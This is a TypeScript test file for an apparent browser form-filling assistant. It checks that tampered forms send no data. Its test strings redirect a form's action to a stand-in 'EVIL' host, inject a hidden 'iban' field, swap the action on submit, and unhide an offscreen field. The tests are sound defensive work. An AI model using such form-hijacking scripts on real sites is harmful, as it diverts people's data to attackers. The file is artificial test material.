import { describe, expect, it } from 'vitest';
import type { TabView } from '../../../lib/messaging/contract/views.ts';
import type { Run } from '../../../lib/model/index.ts';
import type { Tab } from '../../browsers.ts';
import { type Host, html } from '../../servers/hosts.ts';
import { setStage, until } from './stage.ts';

const stage = setStage();

interface Scene {
  readonly shop: Host;
  readonly evil: Host;
  readonly tab: Tab;
  readonly view: TabView;
}

const FORM =
  '<form id="f" action="/order" method="post"><h2>Order a hat</h2><label>Item <input name="item"></label><button>Order</button></form>';

async function visit(body: string): Promise<Scene> {
  const evil = await stage.host('evil', { handle: () => html('<h1>Thank you</h1>') });
  const shop = await stage.host('shop', {
    handle: ({ path }) => html(path === '/' ? body : '<h1>Thank you</h1>'),
  });
  const tab = await stage.visit(shop.origin);
  const view = await until('a draft', async () => {
    await stage.panel('draft', { tabId: tab.id });
    const drafted = await stage.view(tab);
    return drafted.actions.length > 0 ? drafted : undefined;
  });
  return { shop, evil, tab, view };
}

const sent = ({ shop, evil }: Scene): readonly string[] =>
  [...shop.log, ...evil.log]
    .filter(({ method, host }) => method === 'POST' || host !== shop.name)
    .map(({ host, path, body }) => `${host === shop.name ? '' : 'EVIL'}${path} ${body}`);

async function agree(scene: Scene, change: string, fillsOnly = false): Promise<Run> {
  const { tab, view, evil } = scene;
  const [action] = view.actions;
  await until('a run', async () => {
    const asked = await stage.panel<object>('run', {
      tabId: tab.id,
      action: action?.key,
      arguments: { item: 'hat' },
      on: 'page',
    });
    return !('ok' in asked);
  });
  const run = await stage.question(tab, 'Order a hat');
  const become = (script: string): Promise<void> =>
    tab
      .evaluate((code) => void document.documentElement.setAttribute('onclick', code), script)
      .then(() =>
        tab.evaluate(() => document.documentElement.dispatchEvent(new MouseEvent('click'))).then(() => {}),
      );
  const code = change.replaceAll('EVIL', evil.origin);
  if (!fillsOnly) await become(code);
  await stage.panel('answer', { runId: run.id, allow: true, ...(fillsOnly && { fillsOnly }) });
  if (fillsOnly) {
    await until('the filled form', () =>
      tab.evaluate(() => document.querySelector<HTMLInputElement>('[name=item]')?.value === 'hat'),
    );
    await until('its turn', async () =>
      JSON.stringify((await stage.runs(tab)).find(({ id }) => id === run.id)?.progress).includes('YourTurn'),
    );
    expect(sent(scene)).toEqual([]);
    await become(code);
    await tab.click('button', 'Order');
  }
  return stage.ended(tab, run);
}

describe('a drafted form', () => {
  it.each([
    ['sends to another site', "f.action = 'EVIL/x'"],
    ['has a field more', "f.insertAdjacentHTML('beforeend', '<input type=hidden name=iban value=1>')"],
    ['swaps as it is sent', "f.addEventListener('submit', () => { f.action = 'EVIL/x' })"],
  ])('that is filled in, and then %s, sends nothing when the person presses the button', async (_, code) => {
    const scene = await visit(FORM);
    expect((await agree(scene, code, true)).outcome).toMatchObject({ ok: false });
    expect(sent(scene)).toEqual([]);
  });

  it('fills no field that wasn’t seen when it was drafted', async () => {
    const hidden = '<input name="iban" id="late" style="position:absolute;left:-9999px">';
    const scene = await visit(FORM.replace('<button>', `${hidden}<button>`));
    expect(scene.view.actions[0]?.parameters.map(({ name }) => name)).toEqual(['item']);
    await agree(scene, "document.querySelector('#late').removeAttribute('style')");
    expect(sent(scene)).toEqual(['/order item=hat&iban=']);
  });
});
